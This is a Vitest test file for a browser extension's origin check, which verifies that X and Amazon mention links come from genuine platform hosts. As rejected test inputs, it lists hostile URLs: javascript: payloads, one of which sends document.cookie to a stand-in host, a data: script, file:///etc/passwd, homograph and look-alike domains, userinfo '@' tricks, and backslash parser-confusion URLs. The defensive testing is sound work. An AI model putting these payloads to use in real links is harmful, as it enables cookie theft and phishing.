import { describe, expect, test } from 'vitest';
import { AMAZON_MARKETS } from '../../../lib/platforms/amazon-markets.ts';
import { checkMentionOrigin, isPlatformUrl, type OriginReason } from '../../../lib/platforms/mention-origin.ts';
import { X_HOSTS } from '../../../lib/platforms/x-pages.ts';
import { MentionSchema, type Mention, type Platform } from '../../../lib/schema.ts';

const X_POST: Mention = {
  id: 'x:1890123456789012345',
  platform: 'x',
  permalink: 'https://x.com/someone/status/1890123456789012345',
  text: 'still no refund',
};
const REVIEW: Mention = {
  id: 'amazon:R3NDV1ER0MDK8U',
  platform: 'amazon',
  permalink: 'https://www.amazon.de/gp/customer-reviews/R3NDV1ER0MDK8U',
  text: 'Kam nie an.',
};
const X_PAGE = 'https://x.com/home';
const AMAZON_PAGE = 'https://www.amazon.de/dp/000004458X';

/** The reason for a permalink (sent from the platform's own page), or 'ok'. */
function permalinkVerdict(platform: Platform, permalink: string): OriginReason | 'ok' {
  const base = platform === 'x' ? X_POST : REVIEW;
  const out = checkMentionOrigin({ ...base, permalink }, platform === 'x' ? X_PAGE : AMAZON_PAGE);
  if (out.ok) return 'ok';
  expect(out.field).toBe('permalink');
  expect(out.message.startsWith('permalink: ')).toBe(true);
  return out.reason;
}

describe('X permalinks', () => {
  test.each<[string, string, OriginReason | 'ok']>([
    ['x.com', 'https://x.com/someone/status/1', 'ok'],
    ['www.x.com', 'https://www.x.com/someone/status/1', 'ok'],
    ['mobile.x.com', 'https://mobile.x.com/someone/status/1', 'ok'],
    ['twitter.com', 'https://twitter.com/someone/status/1', 'ok'],
    ['www.twitter.com', 'https://www.twitter.com/someone/status/1', 'ok'],
    ['mobile.twitter.com', 'https://mobile.twitter.com/someone/status/1', 'ok'],
    ['http, not https (same host; X redirects it)', 'http://x.com/someone/status/1', 'ok'],
    ['upper-case host (every parser lower-cases it)', 'https://X.COM/someone/status/1', 'ok'],
    ['upper-case scheme', 'HTTPS://x.com/someone/status/1', 'ok'],
    ['no path', 'https://x.com', 'ok'],
    ['query right after the host', 'https://x.com?s=20', 'ok'],
    ['javascript:', 'javascript:alert(document.cookie)', 'not-web'],
    ['javascript: dressed as a link', 'JavaScript:alert(1)//https://x.com/someone/status/1', 'not-web'],
    ['data:', 'data:text/html,<script>alert(1)</script>', 'not-web'],
    ['blob: of an X page', 'blob:https://x.com/0b3b7c5e-1c1a-4f5b-9a4e-3f1d2c3b4a5e', 'not-web'],
    ['view-source:', 'view-source:https://x.com/someone/status/1', 'not-web'],
    ['ftp:', 'ftp://x.com/someone/status/1', 'not-web'],
    ['wss:', 'wss://x.com/someone/status/1', 'not-web'],
    ['file:', 'file:///etc/passwd', 'not-web'],
    ['scheme-relative', '//x.com/someone/status/1', 'not-a-url'],
    ['relative', '/someone/status/1', 'not-a-url'],
    ['look-alike: x.com as a subdomain', 'https://x.com.evil.tld/someone/status/1', 'foreign-host'],
    ['look-alike: twitter.com as a subdomain', 'https://twitter.com.evil.tld/someone/status/1', 'foreign-host'],
    ['look-alike: suffix', 'https://evilx.com/someone/status/1', 'foreign-host'],
    ['look-alike: hyphen', 'https://x-com.evil.tld/someone/status/1', 'foreign-host'],
    ['look-alike: other TLD', 'https://x.co/someone/status/1', 'foreign-host'],
    ['another X subdomain we do not read', 'https://api.x.com/2/tweets/1', 'foreign-host'],
    ['trailing dot (another origin to the browser)', 'https://x.com./someone/status/1', 'foreign-host'],
    ['IDN: Cyrillic х (parsed to xn--u1a.com)', 'https://х.com/someone/status/1', 'foreign-host'],
    ['punycode host', 'https://xn--x-8ga.com/someone/status/1', 'foreign-host'],
    ['IP address', 'https://104.244.42.1/someone/status/1', 'foreign-host'],
    ['an Amazon link on an X mention', 'https://www.amazon.com/gp/customer-reviews/R3NDV1ER0MDK8U', 'foreign-host'],
    ['userinfo: x.com before the @ (host is evil.tld)', 'https://x.com@evil.tld/', 'credentials'],
    ['userinfo: x.com:443 before the @', 'https://x.com:443@evil.tld/', 'credentials'],
    ['userinfo on x.com itself', 'https://evil.tld@x.com/someone/status/1', 'credentials'],
    ['user and password', 'https://user:secret@x.com/someone/status/1', 'credentials'],
    ['a port', 'https://x.com:8443/someone/status/1', 'port'],
    ['the default port written out', 'https://x.com:443/someone/status/1', 'not-canonical'],
    ['backslash before @ (WHATWG reads x.com, others evil.tld)', 'https://x.com\\@evil.tld/', 'not-canonical'],
    ['full-width ｘ (IDNA maps it to x.com)', 'https://ｘ.com/someone/status/1', 'not-canonical'],
    ['ideographic full stop', 'https://x。com/someone/status/1', 'not-canonical'],
    ['percent-encoded dot in the host', 'https://x%2Ecom/someone/status/1', 'not-canonical'],
    ['a tab in the host (browsers drop it)', 'https://x.co\tm/someone/status/1', 'not-canonical'],
    ['leading space (browsers trim it)', ' https://x.com/someone/status/1', 'not-canonical'],
  ])('%s: %s -> %s', (_name, permalink, expected) => {
    expect(permalinkVerdict('x', permalink)).toBe(expected);
  });
});

describe('Amazon permalinks', () => {
  test.each<[string, string, OriginReason | 'ok']>([
    ['amazon.com classic', 'https://www.amazon.com/gp/customer-reviews/R3NDV1ER0MDK8U', 'ok'],
    ['amazon.in new cards', 'https://www.amazon.in/review/R11CF7KJUIHYZZ', 'ok'],
    ['bare marketplace host', 'https://amazon.co.jp/gp/customer-reviews/RCRH2I4PEBA3F', 'ok'],
    ['smile.', 'https://smile.amazon.de/gp/customer-reviews/R3NDV1ER0MDK8U', 'ok'],
    ['two-level TLD', 'https://www.amazon.com.br/gp/customer-reviews/R3NDV1ER0MDK8U', 'ok'],
    ['another marketplace than the page (still Amazon)', 'https://www.amazon.co.uk/gp/customer-reviews/R3NDV1ER0MDK8U', 'ok'],
    ['http', 'http://www.amazon.de/gp/customer-reviews/R3NDV1ER0MDK8U', 'ok'],
    ['upper-case host', 'https://WWW.AMAZON.DE/gp/customer-reviews/R3NDV1ER0MDK8U', 'ok'],
    ['javascript:', 'javascript:fetch("https://evil.tld/?"+document.cookie)', 'not-web'],
    ['data:', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'not-web'],
    ['look-alike: marketplace as a subdomain', 'https://amazon.com.attacker.io/gp/customer-reviews/R3NDV1ER0MDK8U', 'foreign-host'],
    ['look-alike: www. marketplace as a subdomain', 'https://www.amazon.de.evil.tld/gp/customer-reviews/R3NDV1ER0MDK8U', 'foreign-host'],
    ['look-alike: prefix', 'https://evilamazon.com/gp/customer-reviews/R3NDV1ER0MDK8U', 'foreign-host'],
    ['look-alike: Cyrillic а', 'https://www.аmazon.com/gp/customer-reviews/R3NDV1ER0MDK8U', 'foreign-host'],
    ['an Amazon host that is no marketplace', 'https://aws.amazon.com/', 'foreign-host'],
    ['a marketplace we do not read', 'https://www.amazon.cn/gp/customer-reviews/R3NDV1ER0MDK8U', 'foreign-host'],
    ['trailing dot', 'https://www.amazon.de./gp/customer-reviews/R3NDV1ER0MDK8U', 'foreign-host'],
    ['an X link on a review', 'https://x.com/someone/status/1', 'foreign-host'],
    ['userinfo: marketplace before the @', 'https://www.amazon.com@attacker.io/gp/customer-reviews/R1', 'credentials'],
    ['a port', 'https://www.amazon.de:8080/gp/customer-reviews/R3NDV1ER0MDK8U', 'port'],
    ['backslash trick', 'https://www.amazon.de\\@attacker.io/', 'not-canonical'],
  ])('%s: %s -> %s', (_name, permalink, expected) => {
    expect(permalinkVerdict('amazon', permalink)).toBe(expected);
  });
});

describe('the page that sent the mention', () => {
  test.each<[string, Mention, string | undefined, string | undefined]>([
    ['an X post from x.com', X_POST, 'https://x.com/home', undefined],
    ['an X post from twitter.com', X_POST, 'https://twitter.com/someone', undefined],
    ['an X post from mobile.x.com over http', X_POST, 'http://mobile.x.com/home', undefined],
    ['an X post from an Amazon page', X_POST, AMAZON_PAGE, 'sender: www.amazon.de is not an X host'],
    ['a review from an X page', REVIEW, 'https://x.com/home', 'sender: x.com is not an Amazon host'],
    ['a review from another marketplace', REVIEW, 'https://www.amazon.co.jp/-/en/dp/B07WXL5YPW', undefined],
    ['an X post from a look-alike', X_POST, 'https://x.com.evil.tld/home', 'sender: x.com.evil.tld is not an X host'],
    ['a review from a look-alike', REVIEW, 'https://amazon.com.attacker.io/dp/B0', 'sender: amazon.com.attacker.io is not an Amazon host'],
    ['an X post from an unrelated site', X_POST, 'https://evil.tld/', 'sender: evil.tld is not an X host'],
    ['an X post from a local file', X_POST, 'file:///tmp/saved.html', 'sender: file: is not http(s)'],
    ['an X post from about:blank', X_POST, 'about:blank', 'sender: about: is not http(s)'],
    ['an X post from a data: page', X_POST, 'data:text/html,hi', 'sender: data: is not http(s)'],
    ['the browser did not say (no check)', X_POST, undefined, undefined],
    ['our own side panel (Chrome)', X_POST, 'chrome-extension://abcdefghijklmnopabcdefghijklmnop/sidepanel.html', undefined],
    ['our own side panel (Firefox)', REVIEW, 'moz-extension://0b3b7c5e-1c1a-4f5b-9a4e-3f1d2c3b4a5e/sidepanel.html', undefined],
    ['our own page (Safari)', REVIEW, 'safari-web-extension://0B3B7C5E/sidepanel.html', undefined],
  ])('%s', (_name, mention, sender, error) => {
    const out = checkMentionOrigin(mention, sender);
    expect(out.ok ? undefined : out.message).toBe(error);
    if (!out.ok) expect(out.field).toBe('sender');
  });
});

describe('pageUrl, when the mention has one', () => {
  test.each<[string, Mention, string | undefined]>([
    ['the X page it was captured on', { ...X_POST, pageUrl: 'https://x.com/search?q=acme&f=live' }, undefined],
    ['the Amazon page it was captured on', { ...REVIEW, pageUrl: 'https://www.amazon.de/Old-Spice/dp/000004458X' }, undefined],
    ['a foreign page', { ...X_POST, pageUrl: 'https://evil.tld/x.com/home' }, 'pageUrl: evil.tld is not an X host'],
    ['the other platform', { ...REVIEW, pageUrl: 'https://x.com/home' }, 'pageUrl: x.com is not an Amazon host'],
    ['javascript:', { ...REVIEW, pageUrl: 'javascript:alert(1)' }, 'pageUrl: javascript: is not http(s)'],
    ['userinfo', { ...X_POST, pageUrl: 'https://x.com@evil.tld/home' }, 'pageUrl: has a user name or password'],
  ])('%s', (_name, mention, error) => {
    const out = checkMentionOrigin(mention, mention.platform === 'x' ? X_PAGE : AMAZON_PAGE);
    expect(out.ok ? undefined : out.message).toBe(error);
  });
});

test('the first problem is reported: permalink, then pageUrl, then the sender', () => {
  const bad = { ...X_POST, permalink: 'https://evil.tld/1', pageUrl: 'javascript:0' };
  expect(checkMentionOrigin(bad, AMAZON_PAGE)).toMatchObject({ ok: false, field: 'permalink', reason: 'foreign-host' });
  expect(checkMentionOrigin({ ...bad, permalink: X_POST.permalink }, AMAZON_PAGE)).toMatchObject({ field: 'pageUrl', reason: 'not-web' });
  expect(checkMentionOrigin({ ...X_POST, pageUrl: X_PAGE }, AMAZON_PAGE)).toMatchObject({ field: 'sender', reason: 'foreign-host' });
});

test('a long host is cut in the message', () => {
  const host = `${'a'.repeat(60)}.${'b'.repeat(60)}.tld`;
  const out = checkMentionOrigin({ ...X_POST, permalink: `https://${host}/` }, undefined);
  expect(out.ok).toBe(false);
  if (!out.ok) expect(out.message).toBe(`permalink: ${host.slice(0, 100)} is not an X host`);
});

test('the zod schema alone lets these through: the origin check is what stops them', () => {
  for (const permalink of ['javascript:alert(1)', 'https://x.com.evil.tld/a', 'https://x.com\\@evil.tld/']) {
    const m = { ...X_POST, permalink };
    expect(MentionSchema.safeParse(m).success).toBe(true);
    expect(checkMentionOrigin(m, X_PAGE).ok).toBe(false);
  }
});

describe('the hosts are the ones the adapters read', () => {
  test.each([...X_HOSTS])('%s is X, not Amazon', (host) => {
    expect(isPlatformUrl('x', `https://${host}/home`)).toBe(true);
    expect(isPlatformUrl('amazon', `https://${host}/home`)).toBe(false);
  });

  test.each(AMAZON_MARKETS.map((m) => m.host))('%s (bare, www., smile.) is Amazon, not X', (host) => {
    for (const h of [host, `www.${host}`, `smile.${host}`]) {
      expect(isPlatformUrl('amazon', `https://${h}/dp/B07WXL5YPW`)).toBe(true);
      expect(isPlatformUrl('x', `https://${h}/dp/B07WXL5YPW`)).toBe(false);
    }
  });
});
